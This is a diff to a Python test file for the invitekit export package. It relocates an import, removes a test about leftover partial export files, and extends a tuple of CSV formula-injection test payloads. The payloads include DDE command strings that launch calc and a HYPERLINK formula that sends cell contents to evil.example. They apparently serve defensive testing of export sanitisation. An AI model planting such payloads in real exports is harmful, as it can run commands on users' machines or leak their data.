@@ -52,8 +52,8 @@ from invitekit.export import (
 )
 from invitekit.export.manifest import digest, path_of
 from invitekit.export.source import open_source
+from invitekit.formulas import FORMULA_STARTS
 from invitekit.privacy import Key, Level, standard
-from invitekit.write import FORMULA_STARTS
 
 AS_OF = dt.date(2026, 3, 30)
 KEY = Key(bytes(range(32)))
@@ -382,6 +382,7 @@ def test_a_file_that_no_engine_reads_is_no_export(tmp_path: Path, monkeypatch: p
 PAYLOADS = (
     "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
     '=HYPERLINK("http://evil.example?x="&A1,"click")', "=1+1;", '"=1+1"', "'=1+1", " =1+1", "＝1+1", "=1+1\n=2",
+    "\n=1+1", "＋1+1", "－1+1", "＠SUM(1+1)", "''=1+1",
 )  # fmt: skip
 
 
@@ -594,16 +595,6 @@ def test_a_file_that_is_not_the_proved_one_is_refused(tmp_path: Path, how: str) 
     with pytest.raises((LeakError, SourceError)) as refused:
         verify(done.path)
     assert "Atlantis" not in str(refused.value)
-
-
-def test_what_a_killed_export_left_is_swept_and_what_a_living_one_works_in_is_not(tmp_path: Path) -> None:
-    with subprocess.Popen([sys.executable, "-c", ""]) as ended:
-        ended.wait()
-    for name, owner in (("dead", ended.pid), ("alive", os.getppid())):
-        (tmp_path / f".out.csv.{name}.part").mkdir()
-        (tmp_path / f".out.csv.{name}.part" / "owner").write_text(str(owner))
-    ik.export(annotated(), tmp_path / "out.csv")
-    assert left(tmp_path) == [".out.csv.alive.part", "out.csv", "out.csv.manifest.json"]
 
 
 @pytest.mark.parametrize("step", ["file", "manifest"])
